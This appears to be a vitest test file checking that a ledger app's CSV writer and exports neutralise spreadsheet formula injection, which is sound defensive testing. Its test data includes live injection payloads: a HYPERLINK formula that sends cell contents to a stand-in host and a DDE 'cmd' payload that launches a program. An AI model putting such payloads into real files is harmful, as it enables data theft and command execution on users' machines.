// Issue 10 item 6: cells that a spreadsheet would run as a formula (=, +, -, @, tab, CR, LF at the start)
// are neutralised as OWASP recommends, in every CSV the app writes: a leading single quote, and quoted.
// Ids stay readable; a plain negative number stays a number.
import fc from 'fast-check';
import { join } from 'node:path';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvField, csvRecord } from '../../core/report/csv-write.js';
import { AppService } from '../../core/service/app-service.js';
import { buildCli, ledgerscope, workDir, writeLines } from '../cli/run-cli.js';

const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-cus_1', '@SUM(A1:A9)', '\tcus_tab', '\rcus_cr'];

function moesif(customerId: string, id: string, amount: number, day: number) {
  return { company_id: customerId, transaction_id: id, type: amount > 0 ? 'credit' : 'debit', amount, created_at: `2025-01-0${day}T00:00:00Z` };
}

function cells(csv: string): string[][] {
  return Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n', delimiter: ',' }).data;
}

beforeAll(() => buildCli(), 120_000);

describe('CSV formula injection is neutralised in every CSV the app writes', () => {
  it('the shared writer: a hostile cell opens as its own text; ids and plain numbers stay as they are', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('-cus_1')).toBe(`"'-cus_1"`);
    expect(csvField('@x')).toBe(`"'@x"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField('-30')).toBe('-30');
    expect(csvField('cus_1')).toBe('cus_1');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('"=x"')).toBe('"""=x"""');
  });

  it('any text round-trips through the writer and a CSV reader as itself or as a quote and itself', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (fields) => {
        const read = Papa.parse<string[]>(csvRecord(fields).slice(0, -2), { newline: '\r\n', delimiter: ',' }).data[0] ?? [''];
        fields.forEach((field, index) => {
          const formula = /^[=+\-@\t\r\n]/.test(field) && !/^-?\d+(\.\d+)?$/.test(field);
          expect(read[index]).toBe(formula ? `'${field}` : field);
        });
      }),
      { seed: 20_261_207, numRuns: 500 },
    );
  });

  it('report liability --csv: hostile customer ids are quoted text, negative amounts stay numbers', () => {
    const dir = workDir();
    const db = join(dir, 'ledger.sqlite');
    const records = HOSTILE.flatMap((customerId, index) => [moesif(customerId, `c${index}`, 100, 1), moesif(customerId, `d${index}`, -130, 2)]);
    const file = writeLines(dir, 'hostile.jsonl', records);
    expect(ledgerscope('import', file, '--db', db).status).toBe(0);
    const result = ledgerscope('report', 'liability', '--db', db, '--from', '2025-01-01', '--to', '2025-02-01', '--csv');
    expect(result.status, result.stderr).toBe(0);
    const rows = cells(result.stdout);
    const accountRows = rows.filter((row) => row[0] === 'account');
    expect(accountRows.map((row) => row[1]).sort()).toEqual(HOSTILE.map((id) => `'${id}`).sort());
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    expect(rows.some((row) => row.includes('-30'))).toBe(true);
  });

  it('the accounts/balances export: the same', () => {
    const dir = workDir();
    const db = join(dir, 'ledger.sqlite');
    const records = HOSTILE.flatMap((customerId, index) => [moesif(customerId, `c${index}`, 100, 1), moesif(customerId, `d${index}`, -130, 2)]);
    expect(ledgerscope('import', writeLines(dir, 'hostile.jsonl', records), '--db', db).status).toBe(0);
    const file = new AppService({ dbPath: db, clock: () => Date.UTC(2025, 2, 1) }).exportBalances({ format: 'csv' });
    const rows = cells(file.text);
    expect(rows.slice(1).map((row) => row[0]).sort()).toEqual(HOSTILE.map((id) => `'${id}`).sort());
    for (const row of rows.slice(1)) {
      expect(row[3]).toBe('-30');
      for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });
});
